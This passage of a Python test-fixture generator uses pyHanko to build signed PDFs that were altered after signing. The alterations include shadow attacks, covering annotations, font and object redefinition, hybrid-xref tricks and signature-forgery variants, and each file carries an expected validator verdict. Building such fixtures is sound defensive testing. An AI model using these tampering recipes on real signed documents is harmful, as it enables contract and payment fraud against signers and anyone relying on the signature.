       "signed revision holds an unused font (Helvetica, /Differences [49 /nine]); update points page /Resources /Font /F2 at it: '1.000.000' shows as '9.000.000'"),
    Fx("shadow-hide-and-replace.pdf", "shadow-hide-and-replace", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "signed revision holds a second, unused catalog + page tree sharing the AcroForm; update has an empty xref section and only changes trailer /Root to it"),
    Fx("evil-annotation-p2.pdf", "certification/evil-annotation", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "certified /P 2; update adds a FreeText annotation whose appearance paints a white box and new text over the first text line"),
    Fx("evil-annotation-p3.pdf", "certification/evil-annotation", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "certified /P 3; the same covering FreeText annotation (annotations are allowed at /P 3, but not ones that cover page content)"),
    Fx("sneaky-signature-p2.pdf", "certification/sneaky-signature", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "certified /P 2; director-mst then signs a NEW field Signature2 whose visible widget (opaque white background, text) lies over the first text lines"),
    Fx("annotation-p3-allowed.pdf", "permitted/annotation", "TOTAL_PASSED", "-", "PERMITTED",
       "certified /P 3; update adds a small /Text sticky note at [560 810 580 830] (empty top-right margin, no appearance stream)"),
    Fx("form-fill-p2.pdf", "permitted/form-fill", "TOTAL_PASSED", "-", "PERMITTED",
       "page with an empty text field HoTen, certified /P 2; update sets /V and a new appearance stream"),
    Fx("form-fill-p1.pdf", "certification/form-fill", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "the same form fill after a /P 1 (no changes) certification"),
    Fx("redefine-page-object.pdf", "object-redefinition", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "signed-approval + raw update that redefines content stream 5 0 obj (same number, new text); page dict untouched"),
    Fx("redefine-font-object.pdf", "object-redefinition", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "signed-approval + raw update that redefines font 4 0 obj with /Differences [48 /nine] (every '0' shows as '9'); page dict untouched"),
    Fx("hybrid-disagree.pdf", "hybrid-reference", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "signed-approval + hybrid update: the table maps 5 to the signed stream (same offset), its /XRefStm maps 5 to a new unsigned stream; the two views disagree"),
    Fx("hybrid-hidden-stream.pdf", "hybrid-reference", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "signed-approval + hybrid update with an empty table (xref 0 0); only its /XRefStm maps 5 to a new unsigned stream, which PDF 1.5 readers show"),
    Fx("widget-on-unsigned-page.pdf", "widget-off-coverage", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "visible signature whose widget /P is 8 0 R, undefined when signed; update defines 8 as a new page 2 (Kids, Count, /Annots with the widget)"),
    Fx("permitted-second-signature.pdf", "permitted/second-signature", "TOTAL_PASSED", "-", "PERMITTED",
       "approval by citizen-an, then an approval by director-mst in a new field Signature2"),
    Fx("permitted-dss-later.pdf", "permitted/dss", "TOTAL_PASSED", "-", "PERMITTED",
       "B-B approval, then a DSS revision (certs, CRLs, OCSP, VRI) from pyHanko's add_validation_info"),
    Fx("permitted-doc-timestamp-later.pdf", "permitted/doc-timestamp", "TOTAL_PASSED", "-", "PERMITTED",
       "B-B approval, then a /DocTimeStamp revision (DummyTimeStamper, test TSA, 2026-11-22T08:02:00Z)"),
    Fx("permitted-certified-p2-then-approval.pdf", "permitted/approval-after-certification", "TOTAL_PASSED", "-", "PERMITTED",
       "certified /P 2 by citizen-an, then an approval by director-mst in a new invisible field Signature2"),
]


def build(name: str, pki, approval: bytes) -> bytes:
    an = pki.signer("citizen-an", LIC)
    mst = pki.signer("director-mst", LIC)
    with deterministic(name) as rng:
        if name == "usf-empty-contents.pdf":
            return usf_contents(approval, "empty", rng)
        if name == "usf-zero-contents.pdf":
            return usf_contents(approval, "zero", rng)
        if name == "usf-garbage-contents.pdf":
            return usf_contents(approval, "garbage", rng)
        if name == "usf-no-byterange.pdf":
            return usf_byterange(approval, "none")
        if name == "usf-zero-byterange.pdf":
            return usf_byterange(approval, "zero")
        if name == "usf-null-byterange.pdf":
            return usf_byterange(approval, "null")
        if name == "isa-content-appended.pdf":
            return isa_content_appended(approval)
        if name == "isa-stripped-xref.pdf":
            return raw_update(approval, isa_objects(approval), with_xref=False, startxref="prev")
        if name == "isa-broken-startxref.pdf":
            return raw_update(approval, isa_objects(approval), with_xref=False, startxref="trailer")
        if name == "isa-stripped-trailer.pdf":
            return raw_update(approval, isa_objects(approval), with_trailer=False)
        if name == "swa-moved-byterange.pdf":
            return swa_moved_byterange(approval)
        if name == "shadow-hide.pdf":
            signed = sign(shadow_hide_base(), an)

            def drop_overlay(w):
                _, page = first_page(w)
                page["/Contents"] = page.raw_get("/Contents").raw_get(0)
                w.update_container(page)

            return pyhanko_update(signed, drop_overlay)
        if name == "shadow-replace.pdf":
            signed = sign(shadow_replace_base(), an)

            def swap_font(w):
                _, page = first_page(w)
                fonts = page["/Resources"]["/Font"]
                fonts["/F2"] = generic.IndirectObject(8, 0, w)
                w.update_container(page)

            return pyhanko_update(signed, swap_font)
        if name == "shadow-hide-and-replace.pdf":
            signed = sign(shadow_catalog_base(), an)
            return raw_update(signed, {}, root=8)
        if name in ("evil-annotation-p2.pdf", "evil-annotation-p3.pdf"):
            perm = MDPPerm.FILL_FORMS if "p2" in name else MDPPerm.ANNOTATE
            cert = sign(mf.minimal_pdf(mf.BODY_LINES), an, certify=True, docmdp=perm)
            return annotation_update(cert, "/FreeText", COVER_RECT, COVER_AP,
                                     "AMOUNT DUE 900.000.000 VND")
        if name == "annotation-p3-allowed.pdf":
            cert = sign(mf.minimal_pdf(mf.BODY_LINES), an, certify=True, docmdp=MDPPerm.ANNOTATE)
            return annotation_update(cert, "/Text", (560, 810, 580, 830), None,
                                     "Da kiem tra (checked) - reviewer note")
        if name == "sneaky-signature-p2.pdf":
            from pyhanko.pdf_utils.content import RawContent
            from pyhanko.pdf_utils.layout import (
                AxisAlignment, BoxConstraints, InnerScaling, Margins, SimpleBoxLayoutRule)
            from pyhanko.pdf_utils.text import TextBoxStyle
            from pyhanko.stamp import TextStampStyle

            cert = sign(mf.minimal_pdf(mf.BODY_LINES), an, certify=True, docmdp=MDPPerm.FILL_FORMS)
            x1, y1, x2, y2 = COVER_RECT
            # An opaque white background over the whole widget, then the text.
            style = TextStampStyle(
                stamp_text="antin test fixture - AMOUNT DUE 900.000.000 VND",
                text_box_style=TextBoxStyle(font_size=12),
                inner_content_layout=SimpleBoxLayoutRule(
                    x_align=AxisAlignment.ALIGN_MIN, y_align=AxisAlignment.ALIGN_MID,
                    margins=Margins(left=4), inner_content_scaling=InnerScaling.SHRINK_TO_FIT),
                border_width=0,
                background=RawContent(b"1 1 1 rg 0 0 %d %d re f" % (x2 - x1, y2 - y1),
                                      box=BoxConstraints(width=x2 - x1, height=y2 - y1)),
                background_layout=SimpleBoxLayoutRule(
                    x_align=AxisAlignment.ALIGN_MIN, y_align=AxisAlignment.ALIGN_MIN,
                    margins=Margins.uniform(0), inner_content_scaling=InnerScaling.STRETCH_FILL),
                background_opacity=1.0,
            )
            return sign(cert, mst, "Signature2", when=T_SECOND, stamp_style=style,
                        new_field=SigFieldSpec("Signature2", on_page=0, box=COVER_RECT))
        if name in ("form-fill-p2.pdf", "form-fill-p1.pdf"):
            perm = MDPPerm.FILL_FORMS if "p2" in name else MDPPerm.NO_CHANGES
            cert = sign(form_base(), an, certify=True, docmdp=perm)
            return fill_form(cert)
        if name == "redefine-page-object.pdf":
            evil = text_ops(["antin test fixture - REDEFINED AFTER SIGNING"] + mf.BODY_LINES[1:])
            return raw_update(approval, {5: stream_obj(evil)})
        if name == "redefine-font-object.pdf":
            font = (b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding"
                    b" << /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [48 /nine] >> >>")
            return raw_update(approval, {4: font})
        if name == "hybrid-disagree.pdf":
            return hybrid_update(approval, table_lists_5=True)
        if name == "hybrid-hidden-stream.pdf":
            return hybrid_update(approval, table_lists_5=False)
        if name == "widget-on-unsigned-page.pdf":
            signed = sign(widget_base(), an)
            page2 = (b"<< /Type /Page /Parent 2 0 R " + PAGE_BOX
                     + b" /Resources << /Font << /F1 4 0 R >> >> /Contents %d 0 R /Annots [9 0 R] >>")
            t = tail_info(signed)
            c = t.size
            return raw_update(signed, {
                2: b"<< /Type /Pages /Kids [3 0 R 8 0 R] /Count 2 >>",
                8: page2 % c,
                c: stream_obj(text_ops(["Page 2 (added after signing): I agree to pay 900.000.000 VND."])),
            })
        if name == "permitted-second-signature.pdf":
            return sign(approval, mst, "Signature2", when=T_SECOND)
        if name == "permitted-dss-later.pdf":
            from pyhanko.sign.validation import add_validation_info

            r = PdfFileReader(io.BytesIO(approval), strict=False)
            out = io.BytesIO()
            with clock(T_UPDATE):
                add_validation_info(r.embedded_signatures[0],
                                    validation_context(pki, moment=T_UPDATE), output=out)
            return out.getvalue()
        if name == "permitted-doc-timestamp-later.pdf":
            w = IncrementalPdfFileWriter(io.BytesIO(approval), strict=False)
            out = io.BytesIO()
            with clock(T_TSA):
                signers.PdfTimeStamper(pki.timestamper(fixed=T_TSA), field_name="DocTimeStamp1").timestamp_pdf(
                    w, "sha256", output=out)
            return out.getvalue()
        if name == "permitted-certified-p2-then-approval.pdf":
            cert = sign(mf.minimal_pdf(mf.BODY_LINES), an, certify=True, docmdp=MDPPerm.FILL_FORMS)
            return sign(cert, mst, "Signature2", when=T_SECOND)
    raise KeyError(name)


# --------------------------------------------------------------------------
# Checks (pyHanko, optionally antin)
# --------------------------------------------------------------------------
def pyhanko_check(path: Path, pki) -> str:
    from pyhanko.sign.validation import validate_pdf_signature
    from pyhanko.sign.validation.dss import DocumentSecurityStore
    from pyhanko.sign.diff_analysis import DiffResult

    kwargs = dict(
        trust_roots=[pki.cert("root-ca")],
        other_certs=[pki.cert("licensed-ca")],
        crls=[pki.p("root-ca.crl").read_bytes(), pki.p("licensed-ca.crl").read_bytes()],
        allow_fetching=False,
        moment=T_VALIDATE,
        revocation_mode="hard-fail",
    )
    parts = []
    try:
        r = PdfFileReader(io.BytesIO(path.read_bytes()), strict=False)
        sigs = r.embedded_signatures
    except Exception as e:  # noqa: BLE001
        return f"reader error: {type(e).__name__}: {str(e)[:120]}"
    if not sigs:
        return "no signatures found"
    for s in sigs:
        label = s.field_name
        try:
            try:
                vc = DocumentSecurityStore.read_dss(r).as_validation_context(kwargs)
            except Exception:  # noqa: BLE001 - no DSS
                vc = ValidationContext(**kwargs)
            if s.sig_object_type == "/DocTimeStamp":
                from pyhanko.sign.validation import validate_pdf_timestamp

                st = validate_pdf_timestamp(s, validation_context=vc)
                parts.append(f"{label}: doc-ts intact={st.intact} valid={st.valid} "
                             f"trusted={st.trusted} coverage={st.coverage.name}")
                continue
            st = validate_pdf_signature(s, signer_validation_context=vc)
            dr = st.diff_result
            if dr is None:
                diff = "-"
            elif isinstance(dr, DiffResult):
                diff = dr.modification_level.name
            else:
                diff = "suspicious(" + " ".join(str(dr).split())[:150] + ")"
            parts.append(
                f"{label}: intact={st.intact} valid={st.valid} trusted={st.trusted} "
                f"coverage={st.coverage.name if st.coverage else None} diff={diff} "
                f"docmdp_ok={st.docmdp_ok} bottom_line={st.bottom_line}"
            )
        except Exception as e:  # noqa: BLE001
            parts.append(f"{label}: error {type(e).__name__}: {str(e)[:140]}")
    return "; ".join(parts)


def antin_check(path: Path, antin: Path, pki_dir: Path) -> str:
    cmd = [str(antin), "verify", str(path), "--offline", "--at", "2026-11-22T12:00:00Z",
           "--trust", str(pki_dir / "root-ca.pem"), "--crl", str(pki_dir / "root-ca.crl"),
           "--crl", str(pki_dir / "licensed-ca.crl"), "--format", "json"]
    p = subprocess.run(cmd, capture_output=True, text=True)
    try:
        res = json.loads(p.stdout)
    except json.JSONDecodeError:
        return f"exit {p.returncode}: {(p.stderr or p.stdout).strip()[:200]}"
    sigs = ", ".join(
        f"{s.get('field_name')}={s.get('indication')}/{s.get('sub_indication') or '-'}"
        + ("[" + ",".join(e["code"] for e in s.get("errors", [])) + "]" if s.get("errors") else "")
        for s in res.get("signatures", [])
    )
    warns = ",".join(sorted({w["code"] for w in res.get("warnings", [])}))
    changes = ",".join(
        f"rev{c.get('revision')}:{c.get('level')}" for c in res.get("document", {}).get("changes", []) or []
    )
    return (f"verdict={res.get('verdict')} {sigs}" + (f" changes={changes}" if changes else "")
            + (f" warnings={warns}" if warns else ""))


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--pki", type=Path, default=ROOT / "certs" / "test-pki")
    ap.add_argument("--out", type=Path, default=ROOT / "fixtures" / "pdf" / "attacks")
    ap.add_argument("--tsv", type=Path, default=ROOT / "fixtures" / "attacks.tsv")
    ap.add_argument("--check", action="store_true", help="re-check the written files; write nothing")
    ap.add_argument("--antin", type=Path, help="with --check: also run this antin binary")
    ap.add_argument("only", nargs="*", help="fixture file names (default: all; attacks.tsv is "
                    "only rewritten for a full run)")
    args = ap.parse_args()
    pki = mf.Pki(args.pki)
    todo = [f for f in FIXTURES if not args.only or f.file in args.only]

    if args.check:
        import logging

        logging.getLogger("pyhanko").setLevel(logging.CRITICAL)  # results are printed below
        logging.getLogger("pyhanko_certvalidator").setLevel(logging.CRITICAL)
        for f in todo:
            p = args.out / f.file
            print(f"{f.file}\n  expected: {f.verdict}/{f.sub} document={f.finding}")
            print(f"  pyHanko:  {pyhanko_check(p, pki)}")
            if args.antin:
                print(f"  antin:    {antin_check(p, args.antin, args.pki)}")
        return 0

    args.out.mkdir(parents=True, exist_ok=True)
    an = pki.signer("citizen-an", LIC)
    with deterministic("signed-approval"):
        unsigned = mf.minimal_pdf(mf.BODY_LINES)
        approval = sign(unsigned, an)
    for f in todo:
        data = build(f.file, pki, approval)
        (args.out / f.file).write_bytes(data)
        print(f"{f.file:44} {len(data):8} bytes", file=sys.stderr)

    if not args.only:
        rows = [
            "# Attack and permitted-update fixtures (fixtures/pdf/attacks/), made by scripts/make-attack-fixtures.py;",
            "# see fixtures/attacks.md. Reference validation as in fixtures/README.md: anchor root-ca.pem,",
            "# root-ca.crl + licensed-ca.crl, offline, at 2026-11-22T12:00:00Z.",
            "# expected_verdict: the document's overall verdict. expected_signature_sub_indication: the sub-indication",
            "# of the first (attacked) signature, - when it passes. expected_document_finding: the change analysis of",
            "# the updates after the signed revision(s): NONE (nothing after), PERMITTED (all on the whitelist),",
            "# DISALLOWED (anything else, including unparsable or unaccounted bytes after the signed revision).",
            "# file\tclass\texpected_verdict\texpected_signature_sub_indication\texpected_document_finding\tdescription",
        ]
        for f in FIXTURES:
            rows.append("\t".join([f"pdf/attacks/{f.file}", f.cls, f.verdict, f.sub, f.finding, f.desc]))
        args.tsv.write_text("\n".join(rows) + "\n", encoding="utf-8")
        print(f"wrote {args.tsv}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
